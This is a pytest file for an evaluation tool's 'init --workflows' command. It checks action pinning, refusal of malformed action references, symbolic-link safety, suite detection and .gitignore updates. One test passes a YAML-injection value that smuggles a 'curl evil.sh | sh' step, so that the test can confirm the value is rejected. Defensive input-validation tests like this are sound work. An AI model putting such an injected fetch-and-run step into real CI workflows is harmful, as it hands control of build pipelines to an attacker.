"""`evalrunner init --workflows`: pinning the action rewrites the workflows, not the team's suite."""

from __future__ import annotations

from pathlib import Path

import pytest
from click.testing import CliRunner

from evalrunner.cli import main

PIN = "OWNER/evalrunner@" + "0" * 40


def test_pinning_the_action_rewrites_the_workflows_and_keeps_the_suite_and_agent(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Before: the documented pin command (init --force --action ...) replaced the suite
    # and agent the team had written since with the scaffold's.
    monkeypatch.chdir(tmp_path)
    runner = CliRunner()
    assert runner.invoke(main, ["init"]).exit_code == 0
    suite, agent = tmp_path / "suites" / "agent.yaml", tmp_path / "evalrunner_agent.py"
    suite.write_text(suite.read_text() + "# the team's scenarios\n")
    agent.write_text("# the team's agent\n")
    ours = {p: p.read_bytes() for p in (suite, agent)}

    pinned = runner.invoke(main, ["init", "--workflows", "--force", "--action", PIN])
    assert pinned.exit_code == 0, pinned.output
    assert {p: p.read_bytes() for p in ours} == ours
    assert pinned.output.splitlines() == [
        "wrote .github/workflows/evalrunner-pr.yml",
        "wrote .github/workflows/evalrunner-nightly.yml",
    ]
    for name in ("evalrunner-pr.yml", "evalrunner-nightly.yml"):
        assert PIN in (tmp_path / ".github" / "workflows" / name).read_text()


def test_the_pr_workflow_collects_the_golden_tests_a_project_has(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Before: `paths: suites` always, so a team following the README's golden test in
    # tests/ got a green PR job that never ran it.
    monkeypatch.chdir(tmp_path)
    runner = CliRunner()
    workflow = tmp_path / ".github" / "workflows" / "evalrunner-pr.yml"
    assert runner.invoke(main, ["init"]).exit_code == 0
    assert "          paths: suites\n" in workflow.read_text()
    (tmp_path / "tests").mkdir()
    (tmp_path / "tests" / "test_agent.py").write_text(
        "def test_agent(golden_trajectory):\n    golden_trajectory(print, 'hi')\n"
    )
    again = runner.invoke(main, ["init", "--workflows", "--force"])
    assert again.exit_code == 0, again.output
    assert "          paths: suites tests\n" in workflow.read_text()


def test_an_action_that_is_not_a_reference_is_refused_before_anything_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``--action`` is written into the workflows' YAML: a newline in it added steps of the
    caller's choosing (issue 53, row 12)."""
    monkeypatch.chdir(tmp_path)
    for bad in ("a/b@main\n      - run: curl evil.sh | sh", "not a ref", "a/b", "a/b@x y"):
        result = CliRunner().invoke(main, ["init", "--action", bad])
        assert result.exit_code == 2, (bad, result.output)
        assert "is not an action reference" in result.output
    assert list(tmp_path.iterdir()) == []
    for good in (PIN, "./.github/actions/evalrunner", "o/r/sub/path@v1.2"):
        assert (
            CliRunner().invoke(main, ["init", "--workflows", "--force", "--action", good]).exit_code
            == 0
        )


def test_init_writes_through_no_link_and_says_when_a_folder_is_a_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``init --force`` over a planted symbolic link overwrote the file it points to; a
    ``suites`` or ``.github`` that is a file gave a traceback (issue 53, row 12)."""
    project, elsewhere = tmp_path / "project", tmp_path / "elsewhere.txt"
    project.mkdir()
    elsewhere.write_text("precious\n")
    monkeypatch.chdir(project)
    (project / "evalrunner_agent.py").symlink_to(elsewhere)
    linked = CliRunner().invoke(main, ["init", "--force"])
    assert linked.exit_code == 2 and "evalrunner_agent.py is a symbolic link" in linked.output
    assert elsewhere.read_text() == "precious\n" and not (project / "suites").exists()
    (project / "evalrunner_agent.py").unlink()
    (project / ".github").write_text("not a folder\n")
    blocked = CliRunner().invoke(main, ["init"])
    assert blocked.exit_code == 2, blocked.output
    assert ".github is a file where init needs a folder" in blocked.output
    assert "Traceback" not in blocked.output and not (project / "suites").exists()


def test_the_nightly_workflow_runs_the_project_s_own_suite(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Before: `init --workflows` in a project whose suite is not `agent` wrote `suite: agent`
    # (issue 54, A7), a nightly that could never find its suite.
    monkeypatch.chdir(tmp_path)
    (tmp_path / "suites").mkdir()
    (tmp_path / "suites" / "checkout_flow.yaml").write_text("name: checkout_flow\n")
    runner = CliRunner()
    made = runner.invoke(main, ["init", "--workflows"])
    assert made.exit_code == 0, made.output
    nightly = (tmp_path / ".github" / "workflows" / "evalrunner-nightly.yml").read_text()
    assert "suite: checkout_flow" in nightly and "suite: agent" not in nightly

    (tmp_path / "suites" / "search.yaml").write_text("name: search\n")
    several = runner.invoke(main, ["init", "--workflows", "--force"])
    assert several.exit_code == 2
    assert "several suites (checkout_flow, search)" in several.output
    assert "pass --suite NAME" in several.output
    chosen = runner.invoke(main, ["init", "--workflows", "--force", "--suite", "search"])
    assert chosen.exit_code == 0, chosen.output
    assert (
        "suite: search"
        in (tmp_path / ".github" / "workflows" / "evalrunner-nightly.yml").read_text()
    )


def test_init_keeps_a_night_s_run_files_out_of_git(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / ".gitignore").write_text("__pycache__/")  # the project's, without a final newline
    runner = CliRunner()
    made = runner.invoke(main, ["init"])
    assert made.exit_code == 0, made.output
    assert "added results/ to .gitignore" in made.output
    assert (tmp_path / ".gitignore").read_text() == (
        "__pycache__/\n# evalrunner: a night's run files\nresults/\n"
    )
    again = runner.invoke(main, ["init", "--force"])
    assert again.exit_code == 0 and "added results/" not in again.output
    assert (tmp_path / ".gitignore").read_text().count("results/") == 1
